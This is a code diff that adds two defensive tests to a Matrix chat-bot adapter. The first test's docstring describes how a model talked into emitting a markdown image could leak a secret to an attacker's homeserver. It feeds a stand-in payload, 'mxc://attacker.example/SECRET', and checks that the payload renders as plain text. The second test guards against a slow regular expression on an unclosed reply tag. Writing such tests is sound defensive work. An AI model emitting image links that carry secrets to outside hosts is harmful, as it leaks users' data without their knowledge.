@@ -229,3 +229,25 @@ async def test_help_in_a_room_lists_leave_which_the_adapter_handles(tmp_path: Pa
         for context in (dm, elsewhere):
             assert "!leave" not in (await app.commands.dispatch("!help", context)).text
         await adapter.close()
+
+
+def test_the_bots_html_holds_no_image_and_no_link_into_a_homeserver() -> None:
+    """Markdown images became <img src="mxc://…">: clients load an inline image from its homeserver as soon as
+    anyone reads the message, so a model talked into writing ![](mxc://attacker.org/<a secret>) sent the secret
+    there without a click."""
+    from adapters.matrix import _markdown
+
+    html = _markdown.render("look ![x](mxc://attacker.example/SECRET) and [y](mxc://a/b) ![z](https://e.org/i.png)")
+    assert "<img" not in html and "mxc://attacker.example/SECRET" in html  # (as text)
+    assert 'href="mxc:' not in html and '<a href="https://e.org/i.png">z</a>' in html  # (an https link stays one)
+
+
+def test_the_quote_of_a_reply_is_cut_from_the_start_of_a_formatted_body_only() -> None:
+    """A lazy regular expression over the whole body took 1.5 s of the event loop for anyone's message holding
+    ``<mx-reply>`` six thousand times without its end; the quote, by the spec, sits at the start."""
+    from adapters.matrix import without_quoted_reply
+
+    assert without_quoted_reply("<mx-reply><blockquote>old</blockquote></mx-reply>new") == "new"
+    unclosed = "<mx-reply>" * 6000
+    assert without_quoted_reply(unclosed) == unclosed  # (no end: nothing is a quote)
+    assert without_quoted_reply("text <mx-reply>x</mx-reply>") == "text <mx-reply>x</mx-reply>"
